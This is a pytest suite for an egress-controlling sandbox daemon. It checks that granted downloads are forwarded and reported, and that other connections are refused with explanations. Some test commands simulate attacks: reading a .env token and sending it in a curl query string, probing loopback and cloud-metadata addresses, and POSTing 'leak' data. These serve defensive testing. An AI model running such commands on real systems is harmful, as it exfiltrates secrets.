"""Egress end to end: a real daemon whose policy grants the lab's names (tests/helpers/egress.py),
``--test-resolve`` pointing them at the lab's server, and dry runs that download for real.

The policy is the shipped default plus one file granting ``pkg.test`` and ``other.test`` (and
two names that resolve where no grant may reach: 127.0.0.1 and 169.254.169.254) on ports 80 and
443, with the lab's /30 as a CIDR grant (a private network needs one).
"""

from __future__ import annotations

import re
import shlex
import shutil
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from rich.console import Console

from airlock.api import convert
from airlock.cli.render import render_validation
from airlock.client import Client
from airlock.policy.store import default_policy_dir
from airlock.types import NetProtocol, NetworkAttemptInfo, Validation, Verdict
from tests.helpers import TEST_LIMITS, public_dir, running_daemon
from tests.helpers.egress import Lab, egress_lab

PY = sys.executable

GRANT = """\
version: 1
egress:
  dry_run:
    allow:
      - name: lab
        hosts: [pkg.test, other.test, loop.test, meta.test]
        ports: [80, 443]
        cidrs: [{cidr}]
"""


@dataclass
class Env:
    lab: Lab
    client: Client
    base: Path


@pytest.fixture(scope="module")
def env() -> Iterator[Env]:
    with public_dir() as base, egress_lab(base) as lab:
        policy = base / "policy"
        shutil.copytree(default_policy_dir(), policy / "default")
        (policy / "lab.yaml").write_text(GRANT.format(cidr=lab.cidr))
        args = lab.resolve_args([("loop.test", "127.0.0.1"), ("meta.test", "169.254.169.254")])
        with (
            running_daemon(base / "d", *TEST_LIMITS, "--policy-dir", str(policy), *args) as d,
            d.client() as client,
        ):
            yield Env(lab, client, base)


def py(code: str) -> str:
    return f"{PY} -c {shlex.quote(code)}"


def tcp(v: Validation) -> list[NetworkAttemptInfo]:
    return [a for a in v.network_attempts if a.protocol is NetProtocol.TCP]


def test_a_granted_download_is_real_and_reported(env: Env, workspace: Path) -> None:
    before = len(env.lab.requests())
    v = env.client.validate(
        f"curl -sS --cacert {env.lab.ca} -o fetched.bin https://pkg.test/bytes/200000"
        " && curl -sS -o small.bin http://pkg.test/bytes/1000",
        cwd=str(workspace),
    )
    assert v.exit_code == 0, v.stderr
    sizes = {c.path.rsplit(b"/", 1)[-1]: c.size_after for c in v.changes}
    assert sizes == {b"fetched.bin": 200000, b"small.bin": 1000}
    https, http = tcp(v)
    assert (https.forwarded, https.grant, https.refusal, https.sni) == (True, "lab", "", "pkg.test")
    assert https.bytes_received > 200000 and https.upstream_address == env.lab.address
    assert (http.forwarded, http.http_method, http.http_path) == (True, "GET", "/bytes/1000")
    # What came back: the files, their HTTP headers, the TLS records.
    pattern = r"Downloaded 19\d\.\d KiB from pkg\.test over 2 connections \(egress grant lab\)\."
    assert re.search(pattern, v.summary), v.summary
    # Nothing forwarded is an effect the default policy judges; the verdict is the static one.
    assert not [f for f in v.findings if f.rule_id.startswith("effect.")], v.findings
    assert [r["path"] for r in env.lab.requests()[before:]] == ["/bytes/200000", "/bytes/1000"]
    back = convert.validation_from_proto(convert.validation_to_proto(v))
    assert back.network_attempts == v.network_attempts
    console = Console(width=200, record=True)
    console.print(render_validation(v))
    text = console.export_text()
    assert "2 forwarded by egress grants" in text and "forwarded (lab)" in text


def test_refused_attempts_say_why_and_what_would_allow_them(env: Env, workspace: Path) -> None:
    code = (
        "import socket, ssl, time\n"
        f"ctx = ssl.create_default_context(cafile={str(env.lab.ca)!r})\n"
        "def attempt(host, port, data=b'', sni=None):\n"
        "    t0 = time.perf_counter()\n"
        "    try:\n"
        "        with socket.create_connection((host, port), timeout=10) as s:\n"
        "            if sni:\n"
        "                ctx.wrap_socket(s, server_hostname=sni)\n"
        "            s.sendall(data); s.recv(10)\n"
        "        r = 'no error'\n"
        "    except Exception as e:\n"
        "        r = type(e).__name__\n"
        "    print(host, r, round((time.perf_counter() - t0) * 1000, 1), flush=True)\n"
        "get = lambda h: f'GET / HTTP/1.1\\r\\nHost: {h}\\r\\n\\r\\n'.encode()\n"
        "attempt('blocked.test', 443, get('blocked.test'))\n"
        "attempt('loop.test', 80, get('loop.test'))\n"
        "attempt('meta.test', 80, get('meta.test'))\n"
        "attempt('pkg.test', 443, sni='other.test')\n"
        "attempt('pkg.test', 80, b'POST /x HTTP/1.1\\r\\nHost: pkg.test\\r\\n"
        "Content-Length: 4\\r\\n\\r\\nleak')\n"
    )
    before = len(env.lab.requests())
    v = env.client.validate(py(code), cwd=str(workspace))
    assert v.exit_code == 0, v.stderr
    lines = v.stdout.decode().splitlines()
    assert all(" ConnectionResetError " in line or "SSL" in line for line in lines), lines
    assert [(a.dns_name, a.refusal, a.forwarded) for a in tcp(v)] == [
        ("blocked.test", "no-grant", False),
        ("loop.test", "address", False),
        ("meta.test", "address", False),
        ("pkg.test", "name-mismatch", False),
        ("pkg.test", "not-fetch", False),
    ]
    s = v.summary
    assert (
        "Refused blocked.test:443 (no egress grant; `{hosts: [blocked.test], ports: [443]}` "
        "under egress.dry_run.allow would allow blocked.test:443)."
    ) in s
    assert "Refused loop.test:80, meta.test:80 (the name resolves to a loopback" in s
    assert "127.0.0.1 is a loopback address" in s
    assert "Refused pkg.test:443 (the TLS server name or HTTP Host was not the name looked up)" in s
    assert "Refused pkg.test:80 (not a fetch" in s
    assert env.lab.requests()[before:] == []
    network = [f for f in v.findings if f.rule_id == "effect.network"]
    assert network and network[0].verdict is Verdict.ASK
    assert "tcp blocked.test:443" in network[0].message


def test_nothing_is_forwarded_after_a_sensitive_read(env: Env, workspace: Path) -> None:
    (workspace / ".env").write_text("API_TOKEN=s3cr3t\n")
    ca = env.lab.ca
    v = env.client.validate(
        f"curl -sS --cacert {ca} -o first.bin https://pkg.test/bytes/100; cat .env > /dev/null;"
        f" curl -sS --cacert {ca} -o second.bin 'https://pkg.test/bytes/10?t=s3cr3t'; echo rc=$?",
        cwd=str(workspace),
    )
    first, second = tcp(v)
    assert (first.forwarded, first.refusal) == (True, "")
    assert (second.forwarded, second.refusal, second.grant) == (False, "sensitive-read", "lab")
    assert b"rc=0" not in v.stdout
    assert [r.path.rsplit(b"/", 1)[-1] for r in v.sensitive_reads] == [b".env"]
    assert v.verdict is Verdict.DENY
    assert "effect.exfiltration" in {f.rule_id for f in v.findings}
    assert "Refused pkg.test:443 (after a sensitive read nothing is forwarded)." in v.summary
    assert not [r for r in env.lab.requests() if "s3cr3t" in str(r["path"])]


def test_curl_git_clone_and_pip_against_a_host_without_a_grant_fail_and_are_recorded(
    env: Env, workspace: Path
) -> None:
    """Each client gets a reset at once (how fast: bench/egress.py), so the dry run completes:
    every step's status is in the output, and every attempt is recorded as refused."""
    before = len(env.lab.requests())
    v = env.client.validate(
        "curl -sS https://blocked.test/tool.tar.gz -o tool.tar.gz; echo curl=$?;"
        " git clone -q https://blocked.test/repo.git repo; echo git=$?;"
        f" {PY} -m pip --disable-pip-version-check install --no-cache-dir --retries 1"
        " --index-url https://blocked.test/simple/ somepackage; echo pip=$?",
        cwd=str(workspace),
        env={"PIP_CONFIG_FILE": "/dev/null", "HOME": str(workspace)},
        timeout=60,
    )
    assert v.signal == 0 and v.exit_code == 0, v.stderr
    status = dict(line.split("=") for line in v.stdout.decode().split() if "=" in line)
    assert set(status) == {"curl", "git", "pip"} and "0" not in status.values(), status
    attempts = tcp(v)
    assert attempts and {a.dns_name for a in attempts} == {"blocked.test"}
    refused = [(a.port, a.forwarded, a.refusal) for a in attempts]
    assert set(refused) == {(443, False, "no-grant")}, attempts
    # curl once, git at least once, pip once per try (--retries 1: twice), each labelled with
    # the name it looked up. A client that sends its TLS ClientHello within refuse_wait_s
    # (50 ms) of connect has it kept (its server name); a slower one is reset without it.
    assert len(attempts) >= 4, attempts
    assert all(a.sni == "blocked.test" for a in attempts if a.payload_prefix), attempts
    dns = [a for a in v.network_attempts if a.protocol is NetProtocol.DNS]
    assert {a.dns_name for a in dns} == {"blocked.test"} and all(a.refusal for a in dns)
    assert "Refused blocked.test:443 (no egress grant;" in v.summary
    assert env.lab.requests()[before:] == []
    assert "effect.network" in {f.rule_id for f in v.findings}
